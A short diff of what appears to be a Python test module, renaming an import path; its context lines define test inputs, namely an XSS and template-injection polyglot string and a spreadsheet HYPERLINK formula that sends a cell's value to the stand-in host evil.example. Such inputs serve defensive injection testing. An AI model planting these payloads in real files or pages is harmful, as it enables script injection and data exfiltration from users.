@@ -4,7 +4,7 @@ import csv
 import shutil
 from pathlib import Path
 
-from lnregions._paths import data_dir
+from lnregions.paths import data_dir
 
 EVIL = """<script>alert(1)</script>"'><img src=x onerror=alert(1)>{{7*7}}${7*7}</title></script><!--"""
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
